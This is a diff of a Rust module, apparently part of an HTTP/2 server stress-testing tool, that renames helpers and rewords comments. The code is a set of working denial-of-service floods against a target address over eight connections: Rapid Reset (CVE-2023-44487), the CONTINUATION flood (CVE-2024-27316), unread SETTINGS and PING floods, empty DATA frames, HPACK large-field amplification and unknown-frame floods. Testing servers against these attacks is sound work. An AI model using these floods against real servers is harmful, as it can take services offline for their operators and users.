@@ -1,27 +1,27 @@
-//! Attacks by frames that cost their sender little.
+//! Attacks by floods of cheap frames.
 
 use std::net::SocketAddr;
 
 use super::{
-    on_each,
-    wire::{
-        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, READ, RST_STREAM, Wire, call,
-        field, frame, head, ids, settings_frame,
+    on_each_connection,
+    raw_connection::{
+        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, READ, RST_STREAM,
+        RawConnection, call, field, frame, head, ids, settings_frame,
     },
 };
 
-/// On how many connections.
+/// The number of connections.
 const CONNECTIONS: usize = 8;
-/// How many frames are written at once.
+/// The number of frames per write.
 const BATCH: u32 = 100;
 
 fn repeated(frame: &[u8]) -> Vec<u8> {
     frame.repeat(BATCH as usize)
 }
 
-/// Calls that are taken back at once (CVE-2023-44487).
+/// Calls that are reset immediately (CVE-2023-44487).
 pub(super) async fn rapid_reset(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut next = 0;
         let batch = || {
             let streams = ids(BATCH).map(|id| next + id);
@@ -32,56 +32,56 @@ pub(super) async fn rapid_reset(to: SocketAddr) {
             next += 2 * BATCH;
             bytes
         };
-        Wire::open(to, &[]).await?.flood(batch).await
+        RawConnection::open(to, &[]).await?.flood(batch).await
     })
     .await;
 }
 
 /// Settings, whose acknowledgements are not read.
 pub(super) async fn settings(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut value = 0;
         let batch = || {
             value = (value + 1) % 1_000;
             repeated(&settings_frame(&[(4, 65_535 + value), (1, 4_096 + value)]))
         };
-        Wire::open_deaf(to, &[]).await?.flood(batch).await
+        RawConnection::open_unread(to, &[]).await?.flood(batch).await
     })
     .await;
 }
 
 /// Pings, whose answers are not read.
 pub(super) async fn pings(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
-        Wire::open_deaf(to, &[]).await?.flood(|| repeated(&frame(PING, 0, 0, &[1; 8]))).await
+    on_each_connection(CONNECTIONS, || async move {
+        RawConnection::open_unread(to, &[]).await?.flood(|| repeated(&frame(PING, 0, 0, &[1; 8]))).await
     })
     .await;
 }
 
-/// DATA without any.
+/// DATA frames without data.
 pub(super) async fn empty_data(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
-        let mut wire = Wire::open(to, &[]).await?;
-        wire.send(&call(READ, 1)).await?;
-        wire.flood(|| repeated(&frame(DATA, 0, 1, &[]))).await
+    on_each_connection(CONNECTIONS, || async move {
+        let mut raw_connection = RawConnection::open(to, &[]).await?;
+        raw_connection.send(&call(READ, 1)).await?;
+        raw_connection.flood(|| repeated(&frame(DATA, 0, 1, &[]))).await
     })
     .await;
 }
 
-/// A head that never ends (CVE-2024-27316).
+/// A header block that never ends (CVE-2024-27316).
 pub(super) async fn continuation(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
-        let mut wire = Wire::open(to, &[]).await?;
-        wire.send(&frame(HEADERS, END_STREAM, 1, &head(READ))).await?;
+    on_each_connection(CONNECTIONS, || async move {
+        let mut raw_connection = RawConnection::open(to, &[]).await?;
+        raw_connection.send(&frame(HEADERS, END_STREAM, 1, &head(READ))).await?;
         let more: Vec<u8> = (0..100).flat_map(|_| field("x-more", "and more of it")).collect();
-        wire.flood(|| repeated(&frame(CONTINUATION, 0, 1, &more))).await
+        raw_connection.flood(|| repeated(&frame(CONTINUATION, 0, 1, &more))).await
     })
     .await;
 }
 
-/// Heads that name one large field of the table again and again.
+/// Header blocks that refer to one large field of the table many times.
 pub(super) async fn header_lists(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut next = 1;
         let mut large = field("x-large", &"x".repeat(3_900));
         // Kept in the table, as its newest entry: index 62.
@@ -97,21 +97,21 @@ pub(super) async fn header_lists(to: SocketAddr) {
             }
             bytes
         };
-        Wire::open(to, &[]).await?.flood(batch).await
+        RawConnection::open(to, &[]).await?.flood(batch).await
     })
     .await;
 }
 
-/// Frames that mean nothing.
+/// Frames without a meaning.
 pub(super) async fn unknown_frames(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut stream = 1;
         let batch = || {
             stream = (stream + 2) % 100_001;
             let priority = repeated(&frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 200]));
             [priority, frame(0xee, 0xff, stream, &[7; 1 << 14])].concat()
         };
-        Wire::open(to, &[]).await?.flood(batch).await
+        RawConnection::open(to, &[]).await?.flood(batch).await
     })
     .await;
 }
